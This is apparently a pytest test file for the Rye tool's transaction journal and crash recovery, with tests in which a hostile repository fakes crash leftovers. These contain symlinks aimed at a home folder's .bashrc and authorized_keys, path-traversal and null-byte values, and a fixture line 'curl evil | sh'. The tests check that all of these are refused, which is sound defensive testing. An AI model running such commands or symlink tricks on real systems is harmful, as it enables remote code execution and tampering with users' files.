"""Undoing an interrupted change: the remains of a crash, and a hostile checkout that imitates them."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from rye.errors import RyeError
from rye.installation.journal import TransactionError, needs_recovery, records_in
from rye.installation.journal import undo as undo_by_journal
from rye.installation.transaction import Change, exclusive
from rye.limits import PROJECT
from rye.project.layout import Project
from rye.storage.opened_folder import opened_folder


def at(root: Path, tree: dict[str, str]) -> Project:
    """A project with these files; a name that ends with ``!`` is executable."""
    for name, text in tree.items():
        path = root / name.removesuffix("!")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o755 if name.endswith("!") else 0o644)
    (root / ".ai").mkdir(exist_ok=True)
    return Project(root)


def tree(root: Path) -> dict[str, str]:
    """All files and empty folders of a project, without the working folder, in the form that :func:`at` accepts."""
    found: dict[str, str] = {}
    for path in sorted(root.rglob("*")):
        name = str(path.relative_to(root))
        if name.startswith(".ai/.rye"):
            continue
        if path.is_symlink():
            found[name] = f"-> {os.readlink(path)}"
        elif path.is_dir():
            if not any(path.iterdir()):
                found[name + "/"] = ""
        else:
            found[name + ("!" if os.access(path, os.X_OK) else "")] = path.read_text()
    return found


def interrupted(
    project: Project,
    rows: list[tuple[str, bool]],
    *,
    old: dict[int, str] | None = None,
    staged: tuple[int, ...] = (),
    wrote: str | None = None,
) -> Path:
    """The working folder as a crash would leave it, but written by hand, as anyone who shares a repository could. ``wrote``: what
    the run wrote, where the journal says that."""
    said = {} if wrote is None else {"sha256": hashlib.sha256(wrote.encode()).hexdigest()}
    work = project.ai / ".rye"
    (work / "old").mkdir(parents=True)
    (work / "stage").mkdir()
    for number, text in (old or {}).items():
        (work / "old" / str(number)).write_text(text)
    for number in staged:
        (work / "stage" / str(number)).write_text("staged")
    (work / "journal").write_text(json.dumps([{"path": path, "existed": existed, **said} for path, existed in rows]))
    return work


def recovered(project: Project) -> bool:
    """Undo an interrupted run without starting one; return whether there was anything to undo."""
    with opened_folder(project.root) as root, records_in(root) as records:
        return undo_by_journal(root, records)


def undo(project: Project) -> None:
    with exclusive(project):
        pass


# A hostile checkout


@pytest.mark.parametrize("link", [".ai/packages/evil", ".ai/packages/evil/deep"])
@pytest.mark.parametrize("existed", [True, False])
def test_a_kept_file_is_never_put_back_through_a_link(tmp_path: Path, link: str, existed: bool) -> None:
    outside = tmp_path / "home"
    at(outside, {"deep/.bashrc": "mine", ".bashrc": "mine"})
    project = at(tmp_path / "project", {".ai/packages/real/file": "text"})
    (project.root / link).parent.mkdir(parents=True, exist_ok=True)
    (project.root / link).symlink_to(outside)
    interrupted(project, [(f"{link}/.bashrc", existed)], old={0: "curl evil | sh"})
    with pytest.raises(RyeError, match="symbolic link") as raised:
        undo(project)
    assert raised.value.code == "symlink-in-the-way"
    assert raised.value.hint
    assert (outside / ".bashrc").read_text() == "mine"
    assert (outside / "deep/.bashrc").read_text() == "mine"


def test_a_file_outside_is_never_removed_as_if_an_interrupted_run_had_made_it(tmp_path: Path) -> None:
    outside = tmp_path / "home"
    at(outside, {".ssh/authorized_keys": "mine"})
    project = at(tmp_path / "project", {".ai/packages/real/file": "text"})
    (project.packages / "evil").symlink_to(outside)
    interrupted(project, [(".ai/packages/evil/.ssh/authorized_keys", False)])
    with pytest.raises(RyeError, match="symbolic link"):
        undo(project)
    assert (outside / ".ssh/authorized_keys").read_text() == "mine"


@pytest.mark.parametrize("existed", [True, False])
@pytest.mark.parametrize("place", ["rye.toml", ".ai/packages/acme/file"])
def test_a_link_in_a_files_own_place_stops_the_undoing(tmp_path: Path, place: str, existed: bool) -> None:
    project = at(tmp_path / "project", {".ai/packages/acme/other": "text"})
    (tmp_path / "target").write_text("mine")
    (project.root / place).symlink_to(tmp_path / "target")
    work = interrupted(project, [(place, existed)], old={0: "old"})
    with pytest.raises(RyeError, match="symbolic link"):
        undo(project)
    assert (project.root / place).is_symlink()
    assert (tmp_path / "target").read_text() == "mine"
    assert (work / "journal").exists(), "the next run must find that this one could not finish"


def test_a_link_that_appears_in_the_middle_of_a_change_is_not_followed_back(tmp_path: Path) -> None:
    """Between the check of the folders and the end of the switch, someone replaces a folder with a link."""
    outside = tmp_path / "home"
    at(outside, {"file": "mine"})
    project = at(tmp_path / "project", {".ai/packages/acme/file": "old"})

    def swap(name: str) -> None:
        if name == "move in 0":
            (project.packages / "acme").rename(tmp_path / "moved")
            (project.packages / "acme").symlink_to(outside)
            raise OSError("stopped")

    with pytest.raises(RyeError, match="symbolic link"), exclusive(project, step=swap) as writer:
        writer.apply([Change(".ai/packages/acme/file", b"new")])
    assert (outside / "file").read_text() == "mine"


def test_a_link_in_a_new_files_place_is_refused_before_anything_moves(tmp_path: Path) -> None:
    project = at(tmp_path / "project", {".ai/packages/acme/first": "old"})
    (tmp_path / "target").write_text("mine")
    (project.packages / "acme/link").symlink_to(tmp_path / "target")
    before = tree(project.root)
    for change in (Change(".ai/packages/acme/link", b"new"), Change(".ai/packages/acme/link", None)):
        with pytest.raises(RyeError, match="symbolic link"), exclusive(project) as writer:
            writer.apply([Change(".ai/packages/acme/first", b"new"), change])
        assert tree(project.root) == before
    assert (tmp_path / "target").read_text() == "mine"


def test_a_packages_folder_or_lock_that_is_a_link_stops_every_run(tmp_path: Path) -> None:
    for name in ("packages", "lock"):
        project = at(tmp_path / name, {"rye.toml": ""})
        link = project.packages if name == "packages" else project.lock_path
        link.symlink_to(tmp_path / "elsewhere")
        with pytest.raises(RyeError, match="symbolic link"):
            undo(project)
        assert not (project.ai / ".rye").exists(), "refused before anything is made"


@pytest.mark.parametrize("name", [".ai/.rye", ".ai"])
def test_a_working_folder_that_is_a_link_gets_nothing(tmp_path: Path, name: str) -> None:
    (tmp_path / "home").mkdir()
    link = tmp_path / "project" / name
    link.parent.mkdir(parents=True)
    link.symlink_to(tmp_path / "home")
    with pytest.raises(RyeError, match="symbolic link"):
        undo(Project(tmp_path / "project"))
    assert list((tmp_path / "home").iterdir()) == []


# Which places a journal may name


@pytest.mark.parametrize("path", ["rye.lock", "rye.toml", ".ai/packages/a", ".ai/packages/a/b/c.md", ".ai/.rye/x/y"])
def test_undoing_puts_back_every_place_that_a_change_may_write(tmp_path: Path, path: str) -> None:
    project = at(tmp_path, {})
    interrupted(project, [(path, True)], old={0: "as it was"})
    undo(project)
    assert (tmp_path / path).read_text() == "as it was"


def test_an_own_item_is_put_back_if_it_is_what_the_interrupted_run_wrote(tmp_path: Path) -> None:
    """The update of a fork merges into the project's own files."""
    folder = ".ai/skills/forms"
    project = at(tmp_path, {f"{folder}/SKILL.md": "merged", f"{folder}/new.md": "new"})
    work = interrupted(project, [], old={0: "mine", 1: "mine too"})
    rows = [
        (f"{folder}/SKILL.md", True, b"merged"),
        (f"{folder}/guide.md", True, None),
        (f"{folder}/new.md", False, b"new"),
    ]
    journal = [
        {"path": path, "existed": existed, **({"sha256": hashlib.sha256(data).hexdigest()} if data is not None else {})}
        for path, existed, data in rows
    ]
    (work / "journal").write_text(json.dumps(journal))
    undo(project)
    assert tree(tmp_path) == {f"{folder}/SKILL.md": "mine", f"{folder}/guide.md": "mine too"}


@pytest.mark.parametrize("existed", [True, False])
def test_a_journal_of_somebody_else_changes_no_own_item(tmp_path: Path, existed: bool) -> None:
    project = at(tmp_path, {".ai/skills/forms/SKILL.md": "mine"})
    interrupted(project, [(".ai/skills/forms/SKILL.md", existed)], old={0: "evil"} if existed else {})
    with pytest.raises(TransactionError, match="not what that run wrote") as raised:
        undo(project)
    assert raised.value.code == "journal-damaged"
    assert tree(tmp_path) == {".ai/skills/forms/SKILL.md": "mine"}


@pytest.mark.parametrize(
    "path",
    [
        "rye.locks", "xrye.lock", "ryeXlock", "rye.tom", ".ai/packages", ".ai/packages/", ".ai/packages//a", ".ai/packages/a/",

        ".ai/tools", ".ai/tools/../a", ".ai/tools/./a", ".ai/others/a",
        "xai/packages/a", ".ai/packages/a\\b", ".ai/packages/a\0b", ".ai/packages/..", ".ai/packages/a/../../../b",
        "a/.ai/packages/b", "", "README.md", ".ai/tools/a/", ".ai/tools/a\\b", ".ai/packages/a\n/../b", "rye.lock\n",
    ],
)  # fmt: skip
def test_undoing_refuses_every_other_place(tmp_path: Path, path: str) -> None:
    project = at(tmp_path / "project", {"README.md": "mine", ".ai/packages/x": "mine"})
    before = tree(project.root)
    interrupted(project, [("rye.lock", False), (path, True)], old={0: "evil", 1: "evil"})
    with pytest.raises(TransactionError, match="was not written by Rye") as raised:
        undo(project)
    assert raised.value.code == "journal-damaged"
    assert raised.value.hint
    assert tree(project.root) == before
    assert [path.name for path in tmp_path.iterdir()] == ["project"]
    left = sorted(path.name for path in (project.ai / ".rye").iterdir())
    assert left == ["journal", "old", "stage"], "refused before anything is made"


@pytest.mark.parametrize(
    "rows", ["[{}]", '[{"path": "rye.lock"}]', '[{"existed": true}]', "7", "null", '[["rye.lock", true]]']
)
def test_a_journal_of_another_shape_is_refused(tmp_path: Path, rows: str) -> None:
    project = at(tmp_path, {"rye.lock": "mine"})
    interrupted(project, [])
    (project.ai / ".rye/journal").write_text(rows)
    with pytest.raises(TransactionError) as raised:
        undo(project)
    assert raised.value.code == "journal-damaged"


@pytest.mark.parametrize(("size", "refused"), [(-1, False), (0, False), (1, True)])
def test_a_journal_has_a_bound(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, size: int, refused: bool) -> None:
    project = at(tmp_path, {})
    work = interrupted(project, [("rye.lock", False)])
    data = (work / "journal").read_bytes()
    monkeypatch.setattr("rye.installation.journal.PROJECT", PROJECT.__class__(lock_bytes=len(data) - size))
    if refused:
        with pytest.raises(TransactionError, match="was not written by Rye"):
            undo(project)
    else:
        undo(project)
    assert (work / "journal").exists() == refused


@pytest.mark.parametrize("path", [".ai/.gitattributes", "rye.toml", ".ai/tools/acme/x.py"])
def test_a_file_of_other_people_is_taken_away_only_if_its_hash_is_known(tmp_path: Path, path: str) -> None:
    project = at(tmp_path, {path: "mine"})
    interrupted(project, [(path, False)])
    with pytest.raises(TransactionError, match="which is not what that run wrote"):
        undo(project)
    assert tree(tmp_path) == {path: "mine"}


def test_what_cannot_be_put_back_is_kept(tmp_path: Path) -> None:
    """Another program put a file where the folder was: the journal and the moved file wait for a person."""
    project = at(tmp_path, {".ai/packages/a": "in the way"})
    work = interrupted(project, [(".ai/packages/a/x", True)], old={0: "old"})
    with pytest.raises(NotADirectoryError):
        undo(project)
    assert tree(tmp_path) == {".ai/packages/a": "in the way"}
    assert (work / "old/0").read_text() == "old"
    assert needs_recovery(project)


# What undoing brings back


def test_what_was_created_goes_and_what_was_moved_away_comes_back(tmp_path: Path) -> None:
    project = at(
        tmp_path,
        {".ai/packages/a/made/new": "new", ".ai/packages/a/changed": "new", ".ai/packages/a/waiting": "not ours yet"},
    )
    work = interrupted(
        project,
        [
            (".ai/packages/a/gone", True),
            (".ai/packages/a/made/new", False),
            (".ai/packages/a/changed", True),
            (".ai/packages/a/waiting", False),
            (".ai/packages/a/never", False),
        ],
        old={0: "gone", 2: "old"},
        staged=(3,),
    )
    assert needs_recovery(project)
    assert recovered(project) is True
    assert tree(tmp_path) == {
        ".ai/packages/a/gone": "gone",
        ".ai/packages/a/changed": "old",
        ".ai/packages/a/waiting": "not ours yet",
    }
    assert not needs_recovery(project)
    assert not (work / "stage").exists()
    assert not (work / "old").exists()
    assert recovered(project) is False


def test_a_file_that_was_there_and_was_not_reached_stays(tmp_path: Path) -> None:
    project = at(tmp_path, {"rye.lock": "old"})
    interrupted(project, [("rye.lock", True)])
    undo(project)
    assert tree(tmp_path) == {"rye.lock": "old"}


def test_undoing_goes_backwards(tmp_path: Path) -> None:
    """A file became a folder: the files in the folder must be removed before the file can return."""
    project = at(tmp_path, {".ai/packages/a/docs/deep/one": "new", ".ai/packages/a/docs/two": "new"})
    interrupted(
        project,
        [(".ai/packages/a/docs", True), (".ai/packages/a/docs/deep/one", False), (".ai/packages/a/docs/two", False)],
        old={0: "a file"},
    )
    undo(project)
    assert tree(tmp_path) == {".ai/packages/a/docs": "a file"}


def test_undoing_puts_a_folder_back_where_the_new_file_stands(tmp_path: Path) -> None:
    project = at(tmp_path, {".ai/packages/a/docs": "a new file"})
    work = interrupted(project, [(".ai/packages/a/docs", True)])
    (work / "old/0").mkdir()
    (work / "old/0/inside").write_text("old")
    undo(project)
    assert tree(tmp_path) == {".ai/packages/a/docs/inside": "old"}


def test_undoing_puts_a_folder_back_where_nothing_stands(tmp_path: Path) -> None:
    project = at(tmp_path, {})
    work = interrupted(project, [(".ai/packages/a/docs", True)])
    (work / "old/0").mkdir()
    (work / "old/0/inside").write_text("old")
    undo(project)
    assert tree(tmp_path) == {".ai/packages/a/docs/inside": "old"}


def test_a_journal_without_its_folders_undoes_what_it_can(tmp_path: Path) -> None:
    project = at(tmp_path, {"rye.lock": "new"})
    work = interrupted(project, [("rye.lock", False)], wrote="new")
    (work / "old").rmdir()
    (work / "stage").rmdir()
    undo(project)
    assert tree(tmp_path) == {}
    assert not needs_recovery(project)


def test_undoing_puts_a_file_back_where_an_empty_folder_stands(tmp_path: Path) -> None:
    project = at(tmp_path, {})
    (project.packages / "a/docs").mkdir(parents=True)
    interrupted(project, [(".ai/packages/a/docs", True)], old={0: "a file"})
    undo(project)
    assert tree(tmp_path) == {".ai/packages/a/docs": "a file"}


def test_undoing_never_empties_a_folder_with_files_that_rye_did_not_make(tmp_path: Path) -> None:
    project = at(tmp_path, {".ai/packages/a/docs/mine": "mine"})
    work = interrupted(project, [(".ai/packages/a/docs", True)], old={0: "a file"})
    with pytest.raises(OSError, match="not empty"):
        undo(project)
    assert tree(tmp_path) == {".ai/packages/a/docs/mine": "mine"}
    assert (work / "old/0").read_text() == "a file"
    assert needs_recovery(project)


def test_undoing_removes_the_folders_that_a_change_made_and_no_others(tmp_path: Path) -> None:
    project = at(tmp_path, {".ai/packages/a/b/c/new": "new", ".ai/packages/keep/file": "x"})
    interrupted(project, [(".ai/packages/a/b/c/new", False)])
    undo(project)
    assert tree(tmp_path) == {".ai/packages/keep/file": "x"}
    interrupted(at(tmp_path, {"rye.lock": "new", ".ai/packages/keep/file": "x"}), [("rye.lock", False)], wrote="new")
    undo(project)
    assert tree(tmp_path) == {".ai/packages/keep/file": "x"}
    assert project.ai.is_dir()


def test_the_folder_ai_itself_stays_when_its_last_file_goes(tmp_path: Path) -> None:
    project = at(tmp_path, {".ai/packages/a/file": "x"})
    with exclusive(project) as writer:
        assert writer.apply([Change(".ai/packages/a/file", None)]) == 1
    assert not project.packages.exists()
    assert project.ai.is_dir()


def test_a_file_put_back_is_executable_if_it_was(tmp_path: Path) -> None:
    before = {".ai/packages/a/run.sh!": "old", ".ai/packages/a/plain": "old"}
    project = at(tmp_path, before)

    changes = [Change(".ai/packages/a/run.sh", b"new"), Change(".ai/packages/a/plain", b"new", executable=True)]

    def stop(name: str) -> None:
        if name == "move in 1":
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt), exclusive(project, step=stop) as writer:
        writer.apply(changes)
    assert tree(tmp_path) == before


# A run that fails at any step

BEFORE = {
    ".ai/packages/a/kept": "old",
    ".ai/packages/a/gone": "old",
    ".ai/packages/a/folder/one": "old",
    ".ai/packages/a/folder/deep/two": "old",
    ".ai/packages/a/file": "old",
    "rye.lock": "old",
}
CHANGES = [
    Change("rye.lock", b"new"),
    Change(".ai/packages/a/kept", b"new"),
    Change(".ai/packages/a/gone", None),
    Change(".ai/packages/a/folder", b"a file now"),
    Change(".ai/packages/a/folder/one", None),
    Change(".ai/packages/a/folder/deep/two", None),
    Change(".ai/packages/a/file", None),
    Change(".ai/packages/a/file/inside", b"a folder now"),
    Change(".ai/packages/b/made/new.sh", b"new", executable=True),
]
AFTER = {
    ".ai/packages/a/kept": "new",
    ".ai/packages/a/folder": "a file now",
    ".ai/packages/a/file/inside": "a folder now",
    ".ai/packages/b/made/new.sh!": "new",
    "rye.lock": "new",
}


@pytest.mark.parametrize("at_once", [True, False])
def test_a_run_that_fails_at_any_step_is_undone_whole(
    tmp_path: Path, at_once: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Immediately, or by the next run if the first can no longer undo it."""
    for stop in range(60):
        project = at(tmp_path / str(stop), BEFORE)
        names: list[str] = []

        def fail(name: str, names: list[str] = names, stop: int = stop) -> None:
            names.append(name)
            if len(names) > stop:
                raise OSError("stopped")

        with monkeypatch.context() as patched:
            if not at_once:
                patched.setattr("rye.installation.transaction.undo", lambda *_: False)
            try:
                with exclusive(project, step=fail) as writer:
                    writer.apply(CHANGES)
            except OSError:
                pass
            else:
                assert tree(project.root) == AFTER
                break
        if at_once and names[-1] not in ("commit", "clean"):
            assert tree(project.root) == BEFORE
            assert not needs_recovery(project)
        undo(project)
        assert tree(project.root) == (AFTER if names[-1] == "clean" else BEFORE), names[-1]
        assert not needs_recovery(project)
    else:
        pytest.fail("the change has more steps than this test stops at")


def test_an_empty_folder_in_a_files_place_comes_back(tmp_path: Path) -> None:
    project = at(tmp_path, {})
    (project.packages / "a/docs").mkdir(parents=True)

    def fail(name: str) -> None:
        if name == "commit":
            raise OSError("stopped")

    with pytest.raises(OSError, match="stopped"), exclusive(project, step=fail) as writer:
        writer.apply([Change(".ai/packages/a/docs", b"a file")])
    undo(project)
    assert tree(tmp_path) == {".ai/packages/a/docs/": ""}


def test_cleaning_up_needs_nothing_to_be_there(tmp_path: Path) -> None:
    project = at(tmp_path, {})

    def tidy(name: str) -> None:
        if name == "clean":
            shutil.rmtree(project.ai / ".rye/stage")
            shutil.rmtree(project.ai / ".rye/old")

    with exclusive(project, step=tidy) as writer:
        assert writer.apply([Change("rye.lock", b"new")]) == 1


def test_a_project_without_a_folder_ai_gets_one(tmp_path: Path) -> None:
    with exclusive(Project(tmp_path)) as writer:
        writer.apply([Change("rye.lock", b"new")])
    assert tree(tmp_path) == {"rye.lock": "new"}


# What a change writes


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_modes_are_exactly_those_of_a_program_and_of_a_text(tmp_path: Path) -> None:
    project, umask = at(tmp_path, {}), os.umask(0)
    try:
        with exclusive(project) as writer:
            writer.apply([Change(".ai/packages/a/run", b"x", executable=True), Change(".ai/packages/a/text", b"x")])
    finally:
        os.umask(umask)
    assert mode(project.packages / "a/run") == 0o755
    assert mode(project.packages / "a/text") == 0o644


@pytest.mark.parametrize("executable", [True, False])
def test_a_change_of_the_executable_bit_alone_is_a_change(tmp_path: Path, executable: bool) -> None:
    name = ".ai/packages/a/run"
    project = at(tmp_path, {name if executable else name + "!": "x"})
    with exclusive(project) as writer:
        assert writer.apply([Change(name, b"x", executable=executable)]) == 1
        assert writer.apply([Change(name, b"x", executable=executable)]) == 0
    assert tree(tmp_path) == {name + "!" if executable else name: "x"}


def test_the_owners_bit_alone_makes_a_file_executable(tmp_path: Path) -> None:
    project = at(tmp_path, {".ai/packages/a/text": "x", ".ai/packages/a/run!": "x"})
    (project.packages / "a/text").chmod(0o645)
    (project.packages / "a/run").chmod(0o744)
    with exclusive(project) as writer:
        texts = [Change(".ai/packages/a/text", b"x"), Change(".ai/packages/a/run", b"x", executable=True)]
        assert writer.apply(texts) == 0


def test_a_change_leaves_no_file_open(tmp_path: Path) -> None:
    project = at(tmp_path, {})
    with exclusive(project) as writer:
        before = len(os.listdir("/dev/fd"))
        for text in (b"one", b"two", b"three"):
            writer.apply([Change("rye.lock", text)])
        assert len(os.listdir("/dev/fd")) == before


def test_another_text_of_the_same_length_is_a_change(tmp_path: Path) -> None:
    project = at(tmp_path, {"rye.lock": "abc"})
    with exclusive(project) as writer:
        assert writer.apply([Change("rye.lock", b"abd")]) == 1
    assert tree(tmp_path) == {"rye.lock": "abd"}


def test_a_removal_of_nothing_is_no_change(tmp_path: Path) -> None:
    steps: list[str] = []
    project = at(tmp_path, {"rye.toml": "x"})
    with exclusive(project, step=steps.append) as writer:
        assert writer.apply([Change(".ai/packages/a/none", None)]) == 0
        assert writer.apply([]) == 0
    assert steps == []
    assert tree(tmp_path) == {"rye.toml": "x"}


def test_the_steps_come_in_the_order_that_makes_a_crash_harmless(tmp_path: Path) -> None:
    """Staging, the journal, removals, new files, removal of the journal, then cleanup."""
    steps: list[str] = []
    project = at(tmp_path, {".ai/packages/a/gone": "x", "rye.lock": "old"})
    with exclusive(project, step=steps.append) as writer:
        writer.apply(
            [Change("rye.lock", b"new"), Change(".ai/packages/a/new", b"x"), Change(".ai/packages/a/gone", None)]
        )
    assert steps == [
        "stage 1", "stage 2", "journal", "begin", "move away 0", "move away 1", "move in 1", "move in 2", "commit", "clean",
    ]  # fmt: skip


def test_the_journal_is_on_disk_before_the_first_file_moves_and_gone_from_it_at_the_end(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = at(tmp_path, {"rye.lock": "old"})
    work = project.ai / ".rye"
    events: list[str] = []
    real: Callable[[int], None] = os.fsync

    def fsync(descriptor: int) -> None:
        known = {(path.stat().st_dev, path.stat().st_ino): path for path in [work, *work.iterdir()]}
        status = os.fstat(descriptor)
        path = known[status.st_dev, status.st_ino]
        state = "with a journal" if (work / "journal").exists() else "without a journal"
        events.append(f"sync the folder {state}" if path == work else f"sync {path.name} of {status.st_size} bytes")
        real(descriptor)

    monkeypatch.setattr(os, "fsync", fsync)
    with exclusive(project, step=events.append) as writer:
        writer.apply([Change("rye.lock", b"new")])
    digest = hashlib.sha256(b"new").hexdigest()
    length = len(json.dumps([{"path": "rye.lock", "existed": True, "sha256": digest}]))
    assert events == [
        "stage 0", "journal", f"sync journal.new of {length} bytes", "begin", "sync the folder with a journal", "move away 0",
        "move in 0", "commit", "sync the folder without a journal", "clean",
    ]  # fmt: skip


def test_what_an_earlier_crash_left_in_the_stage_is_never_installed(tmp_path: Path) -> None:
    project = at(tmp_path, {})
    work = project.ai / ".rye"
    (work / "stage").mkdir(parents=True)
    (work / "stage/0").write_text("left over")
    (work / "old").mkdir()
    (work / "old/0").write_text("left over")
    with exclusive(project) as writer:
        writer.apply([Change("rye.lock", b"new")])
    assert tree(tmp_path) == {"rye.lock": "new"}
    assert sorted(path.name for path in work.iterdir()) == [".gitignore", "lock"]
    assert (work / ".gitignore").read_text() == "*\n"


def test_an_interruption_before_the_journal_changes_nothing_and_needs_no_undoing(tmp_path: Path) -> None:
    project = at(tmp_path, {"rye.lock": "old"})

    def stop(name: str) -> None:
        if name == "begin":
            assert not needs_recovery(project)
            raise OSError("stopped")

    with pytest.raises(OSError, match="stopped"), exclusive(project, step=stop) as writer:
        writer.apply([Change("rye.lock", b"new")])
    assert not needs_recovery(project)
    undo(project)
    assert tree(tmp_path) == {"rye.lock": "old"}


@pytest.mark.parametrize("path", ["", ".", "..", "a//b", "/a", "a/", "./a", "a/.", "../a", "a/../b", "a\\b", "a\0b"])
def test_a_path_that_is_not_plain_is_refused_by_name(tmp_path: Path, path: str) -> None:
    project = at(tmp_path, {"a/b": "x"})
    for data in (b"x", None):
        with pytest.raises(TransactionError) as raised, exclusive(project) as writer:
            writer.apply([Change(path, data)])
        assert raised.value.code == "unsafe-path"
    assert tree(tmp_path) == {"a/b": "x"}


@pytest.mark.parametrize("path", [".ai/packages/acme/x.md", ".claude/agents/x.md"])
@pytest.mark.parametrize("inside", ["", "notes.md"])
def test_a_folder_that_was_to_be_removed_and_was_not_reached_stays(tmp_path: Path, path: str, inside: str) -> None:
    (tmp_path / path).mkdir(parents=True)
    project = at(tmp_path, {f"{path}/{inside}": "mine"} if inside else {})
    interrupted(project, [(path, False)])
    before = tree(tmp_path)

    assert recovered(project)

    assert tree(tmp_path) == before
    assert not needs_recovery(project)


@pytest.mark.parametrize("name", ["stage", "old", "journal.new"])
@pytest.mark.parametrize("make", [os.mkfifo, Path.touch], ids=["pipe", "file"])
def test_what_takes_the_place_of_a_working_file_blocks_nothing(
    tmp_path: Path, name: str, make: Callable[[Path], None]
) -> None:
    """Opening a named pipe waits for the program at its other end, which a hostile one would not start."""
    project = at(tmp_path, {})
    with opened_folder(project.root) as root, records_in(root) as records:
        work = records.path
    make(work / name)
    keep_open = os.open(work / name, os.O_RDWR)  # so that a wrong program fails instead of waiting
    try:
        with exclusive(project) as writer:
            assert writer.apply([Change(".ai/packages/acme/x.md", b"new")]) == 1
    finally:
        os.close(keep_open)

    assert tree(tmp_path) == {".ai/packages/acme/x.md": "new"}
    assert sorted(path.name for path in work.iterdir()) == [".gitignore", "lock"]
